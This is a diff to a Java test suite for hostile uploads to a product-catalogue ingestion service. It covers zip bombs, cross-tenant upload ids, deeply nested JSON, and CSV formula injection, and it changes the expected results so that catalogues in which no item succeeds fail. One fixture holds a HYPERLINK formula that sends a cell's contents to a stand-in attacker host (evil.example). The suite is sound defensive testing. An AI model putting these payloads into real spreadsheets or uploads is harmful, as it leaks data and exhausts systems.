@@ -334,6 +334,9 @@ class HostileInputTest {
     catalog("archive", "zip: good image + 64 MiB zero bomb entry + truncated image",
         zipEntries(List.of(file("good.png", png), zeros("bomb.png", 64 << 20), file("broken.png", Arrays.copyOf(png, 100)))),
         "application/zip", "succeeded items[failed archive_compression_ratio, failed image_corrupt, ok]");
+    // A catalogue of which no item succeeded is no success: its only entry a bomb, it fails, the item keeps the bomb's code.
+    catalog("archive", "zip whose only entry is a 400 MB zero bomb (huge.png)", zipEntries(List.of(zeros("huge.png", 400L << 20))),
+        "application/zip", "failed all_items_failed items[failed archive_compression_ratio]");
   }
 
   // ---------------------------------------------------------------- manifests
@@ -348,22 +351,23 @@ class HostileInputTest {
         "text/csv", "failed manifest_invalid");
     catalog("manifest", "CSV header only", "sku,upload\n".getBytes(StandardCharsets.UTF_8), "text/csv", "failed manifest_invalid");
     catalog("manifest", "binary noise as text/csv", random(2048), "text/csv", "failed manifest_encoding");
-    // Formula injection: refused per item (never written back anywhere); the other row goes on.
+    // Formula injection: refused per item (never written back anywhere); the other row goes on (and fails on its broken
+    // image, so no item succeeded: the catalogue fails with all_items_failed, each item with its own code).
     String formulas = "sku,upload\n\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"," + broken + "\n+1+1," + broken
         + "\n-2+3," + broken + "\n@SUM(A1:A2)," + broken + "\n \t=1+2," + broken + "\nok-1," + broken + "\n";
     catalog("manifest", "CSV formula injection in sku (=, +, -, @, blank-prefixed =) + one plain row", formulas.getBytes(StandardCharsets.UTF_8),
-        "text/csv", "succeeded items[failed image_corrupt, failed invalid_item, failed invalid_item, failed invalid_item, "
+        "text/csv", "failed all_items_failed items[failed image_corrupt, failed invalid_item, failed invalid_item, failed invalid_item, "
             + "failed invalid_item, failed invalid_item]");
     catalog("manifest", "CSV: row with an upload id of another tenant",
         ("sku,upload\nA," + uploadId(keyB, png, "image/png") + "\n").getBytes(StandardCharsets.UTF_8), "text/csv",
-        "succeeded items[failed upload_not_found]");
+        "failed all_items_failed items[failed upload_not_found]");
     catalog("manifest", "JSON manifest nested 100,000 levels", ("{\"items\":" + "[".repeat(100_000) + "]".repeat(100_000) + "}")
         .getBytes(StandardCharsets.UTF_8), "application/json", "failed manifest_invalid");
     catalog("manifest", "JSON manifest: width 1e400, and a plain row", new JsonObject().put("items", new JsonArray()
         .add(new JsonObject().put("sku", "a").put("upload", broken).put("dimensions", new JsonObject().put("width", "1e400").put("unit", "m")))
         .add(new JsonObject().put("sku", "b").put("upload", broken)))
         .encode().replace("\"1e400\"", "1e400").getBytes(StandardCharsets.UTF_8), "application/json",
-        "succeeded items[failed image_corrupt, failed invalid_item]");
+        "failed all_items_failed items[failed image_corrupt, failed invalid_item]");
     catalog("manifest", "JSON manifest without items", "{\"products\":[]}".getBytes(StandardCharsets.UTF_8), "application/json",
         "failed manifest_invalid");
     // A tar catalogue (not gzipped) with its manifest: a formula SKU fails alone.
@@ -373,7 +377,7 @@ class HostileInputTest {
         "application/x-tar", "succeeded items[failed invalid_item, ok]");
     catalog("manifest", "zip catalogue without manifest whose file name is a formula (=HYPERLINK(1).png)",
         zip(Map.of("=HYPERLINK(1).png", png, "@x.png", Arrays.copyOf(png, 10))), "application/zip",
-        "succeeded items[failed invalid_item, failed invalid_item]");
+        "failed all_items_failed items[failed invalid_item, failed invalid_item]");
     catalog("manifest", "zip catalogue whose manifest.csv is Latin-1",
         zip(Map.of("manifest.csv", "sku,image\nchaise-é,good.png\n".getBytes(StandardCharsets.ISO_8859_1), "good.png", png)),
         "application/zip", "failed manifest_encoding");
